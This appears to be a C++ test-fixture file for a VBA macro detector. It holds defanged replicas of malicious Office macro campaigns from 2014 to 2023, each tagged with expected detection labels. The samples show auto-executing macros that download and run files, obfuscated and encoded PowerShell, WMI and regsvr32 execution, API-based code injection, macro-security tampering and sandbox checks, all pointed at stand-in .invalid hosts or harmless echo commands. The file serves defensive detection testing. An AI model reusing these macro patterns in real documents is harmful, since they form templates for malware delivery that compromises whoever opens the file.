// SPDX-License-Identifier: Apache-2.0
// Twins of the waves of 2014 to 2022: built as those were, and without any effect: they would print a word or ask a
// host of .invalid.
#include <array>

#include "scripts/vba/judge_cases.hpp"

namespace fumiban::vba {
namespace {

constexpr std::array kTwins = {
    Case{"2014 AutoOpen with URLDownloadToFile", R"vba('#standard Module1
Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
Sub AutoOpen()
  Auto_Open
End Sub
Sub Auto_Open()
  URLDownloadToFileA 0, "http://download.invalid/a.exe", Environ("TEMP") & "\a.exe", 0, 0
  Shell Environ("TEMP") & "\a.exe", vbHide
End Sub
)vba",
         "vba.autoexec vba.autoexec-executes vba.declares-api"},
    Case{"2016 XMLHTTP and ADODB.Stream by Chr", R"vba('#document ThisDocument
Sub Document_Open()
  Go
End Sub
'#standard Module1
Sub Go()
  Set h = CreateObject(Chr(77) & Chr(83) & Chr(88) & Chr(77) & Chr(76) & Chr(50) & Chr(46) & Chr(88) & Chr(77) & Chr(76) & Chr(72) & Chr(84) & Chr(84) & Chr(80))
  h.Open "GET", Chr(104) & Chr(116) & Chr(116) & Chr(112) & "://" & "download.invalid/x", False
  h.send
  Set s = CreateObject("ADO" & "DB.St" & "ream")
  s.Type = 1: s.Open: s.Write h.responseBody
  s.SaveToFile Environ("APPDATA") & "\x.exe", 2
End Sub
)vba",
         "vba.autoexec-executes vba.downloads vba.obfuscated vba.hides-command"},
    Case{"2018 AutoOpen, Shell of concatenated PowerShell", R"vba('#standard NewMacros
Sub AutoOpen()
  zKwTbq = "p" + "ow" + "er" + "sh" + "el" + "l -e"
  zKwTbq = zKwTbq + " ZQBjAGgAbwAg" + "AGYAdQBtAGkAYgBhAG4A"
  Shell zKwTbq, 0
End Sub
)vba",
         "vba.autoexec-executes vba.hides-command vba.hostile-command"},
    Case{"2018 dead code and random names", R"vba('#document ThisDocument
Function wGhjkRtzq(pLmnbVcx)
  On Error Resume Next
  vBnmKjhgf = CDbl(3241) * Sin(2)
  wGhjkRtzq = vBnmKjhgf
End Function
Sub Document_Open()
  On Error Resume Next
  qWrtYpsd = 77 - Oct(12)
  hGfdsQwrt = StrReverse("llehsrewop")
  Set kLmnBvcxz = CreateObject(StrReverse("llehS.tpircSW"))
  kLmnBvcxz.Run hGfdsQwrt & " echo fumiban", 0
  zXcvbNmlk = wGhjkRtzq(qWrtYpsd)
End Sub
)vba",
         "vba.autoexec-executes vba.hides-command vba.obfuscated"},
    Case{"2019 WMI and encoded PowerShell", R"vba('#document ThisDocument
Private Sub Document_Open()
  Call w7fk2bqx
End Sub
'#standard Module1
Sub w7fk2bqx()
  Set p = GetObject("winmg" & "mts:Win32_ProcessStartup")
  p.ShowWindow = 0
  Set q = GetObject("winmgmts" & ":" & "Win32_Process")
  q.Create "powershell -enc ZQBjAGgAbwAgAGYAdQBtAGkAYgBhAG4A", Null, p, r
End Sub
)vba",
         "vba.autoexec-executes vba.hides-command vba.hostile-command"},
    Case{"2019 text in form controls", R"vba('#document ThisDocument
Sub autoopen()
  Dim o As Object
  Set o = CreateObject(UserForm1.TextBox1.Tag)
  o.Create UserForm1.TextBox2.Text & UserForm1.Label1.Caption, Null, Null, n
End Sub
'#form UserForm1
'#control TextBox1
'#control TextBox2
'#text winmgmts:Win32_Process
'#text powershell -e ZQBjAGgAbwAgAGYAdQBtAGkAYgBhAG4A
)vba",
         "vba.autoexec-executes vba.hides-command vba.hostile-command"},
    Case{"2020 Replace of junk, WMI, function in another module", R"vba('#document Tnp_hbtzmjr2bxj
Private Sub Document_open()
  Zq1_fmk0qmzsx
End Sub
'#standard Hzq8bnxw
Function Zq1_fmk0qmzsx()
  sk = "sg yw ahwinsg yw ahmgmtsg yw ahs:wsg yw ahin32_sg yw ahprosg yw ahcess"
  Set Ojx3qkrtb = CreateObject(Vb9dkqwz(sk))
  Ojx3qkrtb.Create Vb9dkqwz("sg yw ahcsg yw ahmd /c esg yw ahcho fumiban"), Xz7bnmq, Kp2wrtz
End Function
Function Vb9dkqwz(Mn4bvcx)
  Vb9dkqwz = Join(Split(Mn4bvcx, "sg yw ah"), "")
End Function
)vba",
         "vba.autoexec-executes vba.hides-command vba.obfuscated"},
    Case{"2020 document variable as command", R"vba('#document ThisDocument
Sub AutoOpen()
  Dim c As String
  c = ActiveDocument.Variables("x1").Value
  CreateObject("WScript.Shell").Run c, 0
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"2020 property as command", R"vba('#document ThisDocument
Private Sub Document_Close()
  VBA.Shell ActiveDocument.BuiltInDocumentProperties("Comments")
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"2021 rundll32 by WMI, late binding through CallByName", R"vba('#document ThisDocument
Sub Document_Open()
  Set a = GetObject("winmgmts:root\cimv2:Win32_Process")
  CallByName a, "Cre" & "ate", VbMethod, "rundll32 C:\ProgramData\a.dll,Control_RunDLL", Null, Null, b
End Sub
)vba",
         "vba.autoexec-executes vba.hostile-command"},
    Case{"2021 files of hta by explorer", R"vba('#document ThisDocument
Sub Document_Open()
  x
End Sub
'#standard M
Sub x()
  Open "c:\users\public\a.hta" For Output As #1
  Print #1, "<script>document.write('fumiban')</script>"
  Close #1
  CreateObject("Shell.Application").ShellExecute "mshta", "c:\users\public\a.hta"
End Sub
)vba",
         "vba.autoexec-executes vba.writes-files"},
    Case{"2021-11 xlsm: Workbook_Open, mshta with carets and a hexadecimal host", R"vba('#document ThisWorkbook
Private Sub Workbook_Open()
  Shell "cmd /c m^sh^t^a h^tt^p^:/^/0xC0000201/fe.html", vbHide
End Sub
)vba",
         "vba.autoexec-executes vba.hides-command vba.hostile-command"},
    Case{"2022 regsvr32 of a downloaded ocx", R"vba('#document ThisWorkbook
Private Declare PtrSafe Function uq Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
Private Sub Workbook_Activate()
  uq 0, "https://cms.invalid/wp-content/x/", "..\abc.ocx", 0, 0
  ExecuteExcel4Macro "EXEC(""regsvr32 /s ..\abc.ocx"")"
End Sub
)vba",
         "vba.autoexec-executes vba.hostile-command vba.declares-api"},
    Case{"2022 batch and script dropped, wscript started", R"vba('#standard Module1
Sub Auto_Open()
  Dim f
  f = "C:\ProgramData\bqkwz.vbs"
  Open f For Output As #1: Print #1, "WScript.Echo 1": Close #1
  Set sh = CreateObject("WScript.Shell")
  sh.Exec "wscript.exe C:\ProgramData\bqkwz.vbs"
End Sub
)vba",
         "vba.autoexec-executes vba.hostile-command"},
    Case{"2015 base64 in pieces, decoded by a function of its own", R"vba('#document ThisDocument
Private Sub Document_Open()
  Shell q7(StrReverse("==ANh5WYilWb1ZGIvh2YlBCIlByalxGblh2cyV2dvB3") & ""), 0
End Sub
'#standard Module1
Function q7(s)
  For i = 1 To Len(s): q7 = q7 & ChrW(AscW(Mid(s, i, 1)) Xor 0): Next
End Function
)vba",
         "vba.autoexec-executes"},
    Case{"2017 AutoClose, environment as source of letters", R"vba('#standard Module1
Sub AutoClose()
  Dim z
  z = Mid(Environ("comspec"), 1, 0) & "cmd" & ".exe /c " & "pow" & "ersh" & "ell -e" & "nc ZQBjAGgAbwAgAGYAdQBtAGkAYgBhAG4A"
  Interaction.Shell z, 0
End Sub
)vba",
         "vba.autoexec-executes vba.hides-command vba.hostile-command"},
    Case{"2022-11 workbook that copies itself to where macros are trusted", R"vba('#document ThisWorkbook
Private Sub Workbook_Open()
  FileCopy ThisWorkbook.FullName, Application.TemplatesPath & "\a.xls"
  Shell "regsvr32.exe /s C:\ProgramData\a.ocx", vbHide
End Sub
)vba",
         "vba.autoexec-executes vba.hostile-command vba.writes-files"},
    Case{"2023-03 archive fetched, unpacked by the shell, regsvr32", R"vba('#document ThisDocument
Private Sub Document_Open()
  Dim h: Set h = CreateObject("MSXML2.ServerXMLHTTP.6.0")
  h.Open "GET", "https://cms.invalid/wp-content/?123456", False: h.Send
  Dim s: Set s = CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write h.responseBody
  s.SaveToFile "C:\ProgramData\a.zip", 2
  CreateObject("Shell.Application").Namespace("C:\ProgramData").CopyHere "C:\ProgramData\a.zip"
  Shell "regsvr32 /s C:\ProgramData\a.dll"
End Sub
)vba",
         "vba.autoexec-executes vba.downloads vba.hostile-command"},
    Case{"injection by API", R"vba('#document ThisDocument
Private Declare PtrSafe Function va Lib "kernel32" Alias "VirtualAlloc" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
Private Declare PtrSafe Function ct Lib "kernel32" Alias "CreateThread" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr
Sub Document_Open()
  m = va(0, 10, &H1000, &H40)
  t = ct(0, 0, m, 0, 0, 0)
End Sub
)vba",
         "vba.autoexec-executes vba.injects vba.declares-api"},
    Case{"CreateProcess by API", R"vba('#document ThisDocument
Private Declare Function CreateProcessA Lib "kernel32" (ByVal a As String, ByVal b As String, c As Any, d As Any, ByVal e As Long, ByVal f As Long, g As Any, ByVal h As String, i As Any, j As Any) As Long
Sub AutoClose()
  CreateProcessA vbNullString, "cmd /c echo fumiban", 0, 0, 0, 0, 0, vbNullString, 0, 0
End Sub
)vba",
         "vba.autoexec-executes vba.declares-api"},
    Case{"event of a control that is there", R"vba('#document ThisDocument
'#control InkPicture1
Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As Object)
  Shell "cmd /c echo fumiban"
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"event of a frame named by its attribute", R"vba('#document ThisDocument
Attribute VB_Control = "Frame1, 1, 0, MSForms, Frame"
Private Sub Frame1_Layout()
  Shell Range("A1").Value
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"form that acts when it is shown", R"vba('#document ThisDocument
Private Sub Document_New()
  UserForm1.Show
End Sub
'#form UserForm1
Private Sub UserForm_Initialize()
  CreateObject("WScript.Shell").Run "cmd /c echo fumiban"
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"delayed by OnTime", R"vba('#document ThisWorkbook
Private Sub Workbook_Open()
  Application.OnTime Now + TimeValue("00:00:05"), "Module1.Later"
End Sub
'#standard Module1
Sub Later()
  Shell "cmd /c echo fumiban"
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"ShellWindows by class id", R"vba('#document ThisDocument
Sub Document_Open()
  Set w = GetObject("new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}")
  w.Item().Document.Application.ShellExecute "cmd", "/c echo fumiban", "", Null, 0
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"class and method known only when it runs", R"vba('#document ThisDocument
Sub Document_Open()
  Set o = CreateObject(ActiveDocument.Variables("a").Value)
  o.Run ActiveDocument.Variables("b").Value, 0
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"script handed to Explorer", R"vba('#document ThisWorkbook
Private Sub Workbook_Open()
  Shell "explorer.exe C:\ProgramData\a.js"
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"script engine", R"vba('#document ThisDocument
Sub Document_Open()
  Set s = CreateObject("MSScriptControl.ScriptControl")
  s.Language = "JScript"
  s.AddCode "var a = 'fumiban';"
End Sub
)vba",
         "vba.autoexec-executes"},
    Case{"macro settings lowered, code copied", R"vba('#document ThisDocument
Sub Document_Open()
  System.PrivateProfileString("", "HKEY_CURRENT_USER\Software\Microsoft\Office\16.0\Word\Security", "AccessVBOM") = 1
  NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString "' fumiban"
End Sub
)vba",
         "vba.autoexec-executes vba.tampers-security vba.writes-code"},
    Case{"hexadecimal command, sandbox check", R"vba('#document ThisDocument
Sub Document_Open()
  If InStr(GetObject("winmgmts:").ExecQuery("Select * from Win32_BIOS").ItemIndex(0).Version, "VMware") Then Exit Sub
  c = "636d64202f63206563686f2066756d6962616e20702e696e76616c6964"
  Shell d(c)
End Sub
Function d(s)
  For i = 1 To Len(s) Step 2
    d = d & Chr(Val("&H" & Mid(s, i, 2)))
  Next
End Function
)vba",
         "vba.autoexec-executes vba.hides-command vba.detects-analysis"},
};

} // namespace

std::span<const Case> wave_twins() { return kTwins; }

} // namespace fumiban::vba
